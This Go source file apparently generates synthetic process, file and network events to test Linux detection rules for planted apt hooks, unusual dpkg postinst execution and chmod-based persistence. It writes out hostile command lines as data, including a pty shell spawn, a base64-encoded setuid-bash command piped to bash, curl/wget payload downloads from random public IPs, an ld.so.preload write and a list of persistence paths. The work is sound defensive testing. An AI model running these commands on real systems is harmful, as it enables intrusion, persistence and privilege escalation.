package gen

import "fmt"

// Attack chains: each is built to match its rule's published query.

func (g *Generator) buildChain(b *builder) {
	switch g.intn(4) {
	case 0:
		g.chainAPTShell(b)
	case 1:
		g.chainAPTNetcon(b)
	case 2:
		g.chainDPKG(b)
	default:
		g.chainChmod(b)
	}
}

func (b *builder) last() *event { return b.evs[len(b.evs)-1] }

// hookShell picks how apt's "sh -c" shows up: dash behind /bin/sh on
// Debian and Ubuntu, sometimes sh or bash.
func (g *Generator) hookShell() (exe, arg0 string) {
	switch x := g.intn(20); {
	case x < 12:
		return "/usr/bin/dash", "sh"
	case x < 16:
		return "/usr/bin/sh", "sh"
	default:
		return "/usr/bin/bash", "bash"
	}
}

var implantNames = []string{"sysupdate", "dbus-helper", "kworkerd", "network-check", "apt-clean", "snapd-refresh", "irqbalanced", "cloud-sync"}

// maliciousHook starts an apt run whose configuration has a planted hook and
// returns the hook shell (stage 1 of both APT rules) and its exec time.
func (b *builder) maliciousHook(line string) (apt, sudo, sh *proc, t int64) {
	g := b.g
	args := pick(g, [][]string{{"apt", "update"}, {"apt", "install", "-y", "htop"}, {"apt", "upgrade", "-y"}})
	apt, sudo, t = b.startApt(b.t0, args...)
	t = b.aptFetch(t+g.between(5, 40), apt, 1+g.intn(3))
	exe, arg0 := g.hookShell()
	sh, t = b.spawn(t, apt, false, exe, arg0, "-c", line)
	return apt, sudo, sh, t
}

func (g *Generator) chainAPTShell(b *builder) {
	name := pick(g, implantNames)
	type payload struct {
		variant, line, exe string
		args               []string
	}
	py := "/usr/bin/" + b.h.os.python
	ps := []payload{
		{"bash_script", "/bin/bash /var/tmp/." + name + ".sh >/dev/null 2>&1 &", "/usr/bin/bash", []string{"/bin/bash", "/var/tmp/." + name + ".sh"}},
		{"python_pty", `python3 -c 'import os,pty;os.setsid();pty.spawn("/bin/sh")'`, py, []string{"python3", "-c", `import os,pty;os.setsid();pty.spawn("/bin/sh")`}},
		{"base64_pipe", "echo Y3AgL2Jpbi9iYXNoIC90bXAvLnggJiYgY2htb2QgdStzIC90bXAvLngK | base64 -d | bash", "/usr/bin/bash", []string{"bash"}},
		{"perl_exec", `perl -e 'use POSIX qw(setsid); setsid(); exec "/usr/lib/.` + name + `/upd"'`, "/usr/bin/perl", []string{"perl", "-e", `use POSIX qw(setsid); setsid(); exec "/usr/lib/.` + name + `/upd"`}},
		{"openssl_decrypt", "openssl enc -d -aes-256-cbc -pbkdf2 -k 4pt-c4ch3 -in /var/cache/apt/.srcpkgcache.bin -out /dev/shm/." + name, "/usr/bin/openssl", []string{"openssl", "enc", "-d", "-aes-256-cbc", "-pbkdf2", "-k", "4pt-c4ch3", "-in", "/var/cache/apt/.srcpkgcache.bin", "-out", "/dev/shm/." + name}},
		{"php_system", `php -r 'system("/dev/shm/.` + name + `");'`, "/usr/bin/php8.3", []string{"php", "-r", `system("/dev/shm/.` + name + `");`}},
	}
	p := pick(g, ps)
	apt, sudo, sh, t := b.maliciousHook(p.line)
	b.inject(KindAPTShell, p.variant, false)
	b.mark(b.last())
	shExec := t
	if p.variant == "base64_pipe" {
		sub := b.fork(t+g.between(1, 3), sh, false) // the subshell running echo
		b.end(sub.start+g.between(1, 3), sub, 0)
		_, _ = b.hookChild(t+g.between(1, 4), sh, 3, "/usr/bin/base64", "base64", "-d")
	}
	c, tc := b.spawn(shExec+g.between(2, 3000), sh, false, p.exe, p.args...)
	b.mark(b.last())
	switch p.variant {
	case "openssl_decrypt":
		b.file(tc+g.between(5, 60), c, evFileCreate, "/dev/shm/."+name, g.between(1<<16, 1<<21))
	case "bash_script", "base64_pipe":
		b.file(tc+g.between(5, 60), c, evFileCreate, "/tmp/.x", g.between(1<<16, 1<<21))
	}
	end := tc + g.jitter(300)
	b.end(end, c, 0)
	b.end(end+g.between(1, 5), sh, 0)
	b.finishApt(end+g.between(10, 500), apt, sudo)
}

func (g *Generator) chainAPTNetcon(b *builder) {
	name := pick(g, implantNames)
	variant := pick(g, []string{"curl_ipv4", "curl_ipv4", "wget_ipv4", "curl_ipv6", "at_maxspan"})
	ip := g.publicIPv4()
	if variant == "curl_ipv6" {
		ip = g.publicIPv6()
	}
	port := pick(g, []int32{80, 443, 8080, 8443})
	url := fmt.Sprintf("http://%s:%d/%s", ip, port, name)
	if variant == "curl_ipv6" {
		url = fmt.Sprintf("http://[%s]:%d/%s", ip, port, name)
	}
	out := "/var/tmp/." + name
	exe, args := "/usr/bin/curl", []string{"curl", "-fsSL", "-o", out, url}
	line := "curl -fsSL -o " + out + " " + url + " || true"
	switch variant {
	case "wget_ipv4":
		exe, args = "/usr/bin/wget", []string{"wget", "-q", "-O", out, url}
		line = "wget -q -O " + out + " " + url + " 2>/dev/null"
	case "at_maxspan":
		line = "sleep 4.9; " + line
	}
	apt, sudo, sh, t := b.maliciousHook(line)
	b.inject(KindAPTNetcon, variant, false)
	b.mark(b.last())
	var connT int64
	if variant == "at_maxspan" {
		// The connection comes exactly maxspan (5s) after the shell: the
		// rule's maxspan is inclusive.
		_, _ = b.hookChild(t+g.between(1, 3), sh, 4900, "/usr/bin/sleep", "sleep", "4.9")
		connT = t + 5000
	} else {
		connT = t + g.between(40, 4900)
	}
	c, _ := b.spawn(connT-g.between(6, 30), sh, false, exe, args...)
	b.mark(b.connect(connT, c, ip, port, false, g.jitter(400))) // the attempt, not the disconnect after it
	fileT := connT + g.between(3, 40)
	for _, e := range b.evs {
		if e.kind == evNetDisconnect && e.p == c {
			fileT = e.ts + g.between(1, 10)
		}
	}
	b.file(fileT, c, evFileCreate, out, g.between(1<<14, 1<<21))
	end := fileT + g.between(1, 20)
	b.end(end, c, 0)
	b.end(end+g.between(1, 5), sh, 0)
	b.finishApt(end+g.between(10, 500), apt, sudo)
}

func (g *Generator) chainDPKG(b *builder) {
	h := b.h
	name := pick(g, implantNames)
	p := pick(g, pkgs)
	path := "/var/lib/dpkg/info/" + p.name + ".postinst"
	if g.chance(0.4) {
		path = "/var/lib/dpkg/info/." + name + ".postinst"
	}
	var parent *proc
	var t int64
	var variant string
	switch g.intn(4) {
	case 0:
		variant = "interactive_shell"
		var s *session
		s, t = b.session(b.t0, true)
		parent = s.shell
		sc, ts := b.spawn(t, parent, true, path, path, "configure")
		b.inject(KindDPKGUnusual, variant, false)
		b.mark(b.last())
		b.file(ts+g.between(5, 50), sc, evFileModify, "/etc/ld.so.preload", g.between(20, 80))
		b.end(ts+g.jitter(200), sc, 0)
		return
	case 1:
		variant = "cron_job"
		parent, t = b.cronShell(b.t0, acctRoot, path+" >/dev/null 2>&1")
	case 2:
		variant = "systemd_service"
		sc, ts := b.service(b.t0, path, path)
		b.inject(KindDPKGUnusual, variant, false)
		b.mark(b.last())
		b.file(ts+g.between(5, 50), sc, evFileCreate, "/usr/lib/."+name+"/upd", g.between(1<<14, 1<<20))
		b.end(ts+g.jitter(500), sc, 0)
		return
	default:
		variant = "webshell"
		if len(h.daemons) == 0 || h.role != "web" {
			parent, t = b.cronShell(b.t0, acctRoot, path+" >/dev/null 2>&1")
			variant = "cron_job"
			break
		}
		parent, t = b.spawn(b.t0, h.daemons[0], false, "/usr/bin/dash", "sh", "-c", path)
	}
	sc, ts := b.spawn(t+g.between(1, 5), parent, false, path, path)
	b.inject(KindDPKGUnusual, variant, false)
	b.mark(b.last())
	end := ts + g.jitter(300)
	b.end(end, sc, 0)
	b.end(end+g.between(1, 5), parent, 0)
	if variant == "cron_job" {
		b.end(end+g.between(6, 10), parent.parent, 0)
	}
}

// persistenceTarget returns a path the chmod rule watches.
func (g *Generator) persistenceTarget(user *account, name string) string {
	home := "/home/" + pick(g, interactiveUsers).name
	if user != nil && user != acctRoot {
		home = user.home
	}
	return pick(g, []string{
		"/etc/init.d/" + name,
		"/etc/cron.hourly/" + name,
		"/etc/cron.daily/" + name,
		"/etc/cron.d/" + name,
		"/etc/rc.local",
		"/etc/update-motd.d/99-" + name,
		"/etc/NetworkManager/dispatcher.d/99-" + name,
		"/etc/xdg/autostart/" + name + ".desktop",
		home + "/.config/autostart/" + name + ".desktop",
		"/root/.config/autostart/" + name + ".desktop",
		"/root/.config/autostart-scripts/" + name + ".sh",
		home + "/.local/share/autostart/" + name + ".desktop",
		"/lib/udev/" + name,
		"/etc/udev/rules.d/99-" + name + ".rules",
		"/usr/lib/dracut/modules.d/99" + name + "/module-setup.sh",
		"/etc/apt/apt.conf.d/99" + name,
		"/etc/init/" + name + ".conf",
	})
}

// adminShell returns a root-privileged parent for the attacker's commands:
// a root login shell, sudo from a user's session, or a dropper script.
func (b *builder) adminShell(t int64) (parent *proc, cleanup func(t int64), t2 int64) {
	g := b.g
	switch g.intn(3) {
	case 0:
		s, t := b.session(t, true)
		return s.shell, func(int64) {}, t
	case 1:
		s, t := b.session(t, false)
		sudo, t := b.spawn(t, s.shell, true, "/usr/bin/sudo", "sudo", "-s")
		sudo.user, sudo.egrp = acctRoot, sudo.ruser // setuid root: the caller's group stays
		sh, t := b.spawn(t+g.between(20, 200), sudo, false, "/usr/bin/bash", "/bin/bash")
		sh.user, sh.ruser, sh.egrp = acctRoot, acctRoot, nil
		return sh, func(t int64) { b.end(t, sh, 0); b.end(t+g.between(1, 5), sudo, 0) }, t
	default:
		s, t := b.session(t, true)
		sh, t := b.spawn(t, s.shell, true, "/usr/bin/bash", "bash", "/tmp/.i.sh")
		return sh, func(t int64) { b.end(t, sh, 0) }, t
	}
}

func (g *Generator) chainChmod(b *builder) {
	name := pick(g, implantNames)
	parent, cleanup, t := b.adminShell(b.t0)
	target := g.persistenceTarget(parent.user, name)
	variant := "chmod"
	if g.chance(0.2) {
		variant = "install"
		inst, ti := b.spawn(t+g.between(50, 3000), parent, isLoginShell(parent), "/usr/bin/install", "install", "-m", pick(g, []string{"755", "750", "700", "555"}), "/tmp/."+name, target)
		b.inject(KindChmodPersistence, variant, false)
		b.mark(b.last())
		b.file(ti+g.between(1, 10), inst, evFileCreate, target, g.between(200, 1<<16))
		end := ti + g.between(2, 20)
		b.end(end, inst, 0)
		cleanup(end + g.between(100, 2000))
		return
	}
	cp, tc := b.spawn(t+g.between(50, 3000), parent, isLoginShell(parent), "/usr/bin/cp", "cp", "/tmp/."+name, target)
	b.file(tc+g.between(1, 10), cp, evFileCreate, target, g.between(200, 1<<16))
	tc += g.between(11, 20)
	b.end(tc, cp, 0)
	mode := pick(g, []string{"+x", "+x", "755", "777", "700", "1755", "5755", "+xr", "+x,o-w"})
	ch, th := b.spawn(tc+g.between(100, 4000), parent, isLoginShell(parent), "/usr/bin/chmod", "chmod", mode, target)
	b.inject(KindChmodPersistence, variant, false)
	b.mark(b.last())
	end := th + g.between(1, 4)
	b.end(end, ch, 0)
	cleanup(end + g.between(100, 2000))
}

// isLoginShell reports whether p is an interactive login shell, which puts
// each job it runs in a new process group.
func isLoginShell(p *proc) bool { return p.entry == p && p.entryType == "sshd" }
